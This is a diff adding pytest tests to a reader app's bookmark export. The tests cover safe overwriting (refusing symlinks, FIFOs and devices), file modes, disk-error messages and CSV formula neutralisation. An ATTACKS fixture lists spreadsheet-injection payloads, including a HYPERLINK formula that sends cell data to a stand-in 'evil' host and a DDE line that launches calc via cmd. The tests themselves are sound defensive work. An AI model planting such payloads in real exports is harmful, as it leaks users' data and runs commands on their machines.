@@ -4,11 +4,13 @@ Markdown and Anki; markup-like, quoted, tabbed and multi-line text survives each
 from __future__ import annotations
 
 import csv
+import errno
 import html
 import io
 import json
 import os
 import re
+import stat
 import subprocess
 import sys
 import xml.etree.ElementTree as ET
@@ -20,7 +22,7 @@ from conftest import REPO, sample_document
 
 from reader.bookmarks import Bookmark, BookmarkStore
 from reader.corpus import write_document
-from reader.errors import UserError
+from reader.errors import PathTaken, UserError
 from reader.export import FORMATS, render, write_export
 
 NOTE = 'Says "[Reuters]" & <b>bold</b>,\tthen a tab\nand a second line [/b] \\'
@@ -231,7 +233,7 @@ def test_cli_export_to_stdout_and_file(reader_home: Path, tmp_path: Path) -> Non
     target = tmp_path / "b.tmx"
     assert run("export", "--format", "tmx", "-o", str(target)).returncode == 0
     again = run("export", "--format", "tmx", "-o", str(target))
-    assert again.returncode == 2 and b"already exists" in again.stderr
+    assert again.returncode == 2 and b"already exists (use --force to overwrite)" in again.stderr
     assert run("export", "--format", "tmx", "-o", str(target), "--force").returncode == 0
 
 
@@ -257,7 +259,7 @@ def test_cli_export_errors_are_one_line_and_change_nothing(reader_home: Path, tm
     blocker.write_text("keep")
     cases = [(blocker / "out.csv", "no such directory"), (out, "is a directory")]
     if Path("/proc/self").is_dir():  # Linux: a directory nobody can create files in, even root
-        cases.append((Path("/proc/reader-export-test.csv"), "cannot write"))
+        cases.append((Path("/proc/reader-export-test.csv"), "writing the export"))
     for target, needle in cases:
         result = run("--format", "csv", "-o", str(target))
         assert result.returncode == 2 and needle in result.stderr, result.stderr
@@ -279,3 +281,147 @@ def test_an_empty_or_mixed_export_is_still_valid(bookmarks: list[Bookmark], tmp_
         path.write_bytes(data)
         units = [u for u in tmx.tmxfile.parsefile(str(path)).units if not u.isheader()]
         assert [u.source for u in units] == [b.texts[b.original_language] for b in items]
+
+
+def test_force_replaces_a_regular_file_only(bookmarks: list[Bookmark], tmp_path: Path) -> None:
+    """A symlink (even a dangling one), a folder or a FIFO is refused with or without force:
+    nothing is written through a link to somewhere else, nothing is replaced."""
+    real = tmp_path / "real.csv"
+    real.write_text("keep")
+    link = tmp_path / "link.csv"
+    link.symlink_to(real)
+    dangling = tmp_path / "dangling.csv"
+    dangling.symlink_to(tmp_path / "elsewhere.csv")
+    folder = tmp_path / "folder.csv"
+    folder.mkdir()
+    fifo = tmp_path / "fifo.csv"
+    os.mkfifo(fifo)
+    for path, kind in (
+        (link, "symbolic link"),
+        (dangling, "symbolic link"),
+        (folder, "directory"),
+        (fifo, "FIFO"),
+    ):
+        for force in (False, True):
+            with pytest.raises(PathTaken, match=f"is a {kind}; only a regular file") as caught:
+                write_export(bookmarks, "csv", path, force=force)
+            assert not caught.value.replaceable and "--force" not in str(caught.value)
+    assert link.is_symlink() and real.read_text() == "keep" and dangling.is_symlink()
+    assert not (tmp_path / "elsewhere.csv").exists() and folder.is_dir()
+    assert stat.S_ISFIFO(os.lstat(fifo).st_mode) and list(folder.iterdir()) == []
+    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")) == []
+
+
+def test_exports_get_the_users_mode(bookmarks: list[Bookmark], tmp_path: Path) -> None:
+    old = os.umask(0o022)
+    try:
+        target = tmp_path / "out.json"
+        write_export(bookmarks, "json", target)
+        assert stat.S_IMODE(target.stat().st_mode) == 0o644
+    finally:
+        os.umask(old)
+
+
+def test_a_full_or_read_only_disk_is_one_sentence_and_changes_nothing(
+    bookmarks: list[Bookmark], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    folder = tmp_path / "exports"
+    folder.mkdir()
+    target = folder / "out.csv"
+    target.write_text("old")
+
+    def fail(code: int):
+        def raise_(*args: object) -> None:
+            raise OSError(code, os.strerror(code))
+
+        return raise_
+
+    monkeypatch.setattr(os, "write", fail(errno.ENOSPC))
+    with pytest.raises(UserError, match=r"writing the export \(.*out.csv\) failed: the disk is full"):
+        write_export(bookmarks, "csv", target, force=True)
+    monkeypatch.setattr(os, "write", fail(errno.EROFS))
+    with pytest.raises(UserError, match="read-only"):
+        write_export(bookmarks, "csv", folder / "new.csv")
+    monkeypatch.undo()
+    assert target.read_text() == "old" and sorted(p.name for p in folder.iterdir()) == ["out.csv"]
+
+
+def test_cli_refuses_a_device_even_with_force(reader_home: Path, tmp_path: Path) -> None:
+    device = tmp_path / "null"
+    try:
+        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
+    except PermissionError:
+        pytest.skip("creating a device node needs root (CAP_MKNOD)")
+    result = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "reader",
+            "bookmarks",
+            "export",
+            "--format",
+            "csv",
+            "-o",
+            str(device),
+            "--force",
+        ],
+        capture_output=True,
+        text=True,
+        env={**os.environ, "READER_HOME": str(reader_home)},
+        cwd=REPO,
+        timeout=120,
+    )
+    assert result.returncode == 2 and "is a device; only a regular file" in result.stderr
+    assert "--force" not in result.stderr and len(result.stderr.splitlines()) == 1
+    assert stat.S_ISCHR(os.lstat(device).st_mode)
+
+
+ATTACKS = [
+    '=HYPERLINK("http://evil/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\uff1d1+1",
+    "\uff20SUM(A1)",
+]
+
+
+def test_csv_cells_that_start_like_a_formula_are_neutralised(bookmarks: list[Bookmark]) -> None:
+    for attack in ATTACKS:
+        hostile = replace(bookmarks[0], note=attack, tags=("=1+1",), titles={"zh": attack})
+        hostile.texts = {**hostile.texts, "en": attack}
+        row = next(csv.DictReader(io.StringIO(render([hostile], "csv").decode())))
+        assert row["note"] == row["en"] == row["title"] == "'" + attack, attack
+        assert row["tags"] == "'=1+1"
+        raw = next(csv.DictReader(io.StringIO(render([hostile], "csv", raw=True).decode())))
+        assert raw["note"] == raw["en"] == attack and raw["tags"] == "=1+1"
+        # the formats meant to be read back by programs stay exact
+        assert json.loads(render([hostile], "json"))[0]["note"] == attack
+        if "\r" not in attack:
+            assert ET.fromstring(render([hostile], "tmx")).find("body/tu/note").text == attack
+    harmless = next(csv.DictReader(io.StringIO(render(bookmarks, "csv").decode())))
+    assert harmless["note"] == NOTE and harmless["id"] == str(bookmarks[0].id)
+
+
+def test_cli_csv_export_neutralises_by_default_and_raw_on_request(reader_home: Path) -> None:
+    write_document(sample_document(), reader_home / "data" / "corpus")
+    env = {**os.environ, "READER_HOME": str(reader_home)}
+
+    def run(*args: str) -> subprocess.CompletedProcess[str]:
+        return subprocess.run(
+            [sys.executable, "-m", "reader", "bookmarks", *args],
+            capture_output=True,
+            text=True,
+            env=env,
+            cwd=REPO,
+            timeout=120,
+        )
+
+    assert run("add", "sample-court-visit", "p1s1", "--note", ATTACKS[0], "--tag", "=1+1").returncode == 0
+    safe = next(csv.DictReader(io.StringIO(run("export", "--format", "csv").stdout)))
+    raw = next(csv.DictReader(io.StringIO(run("export", "--format", "csv", "--raw-csv").stdout)))
+    assert (safe["note"], safe["tags"]) == ("'" + ATTACKS[0], "'=1+1")
+    assert (raw["note"], raw["tags"]) == (ATTACKS[0], "=1+1")
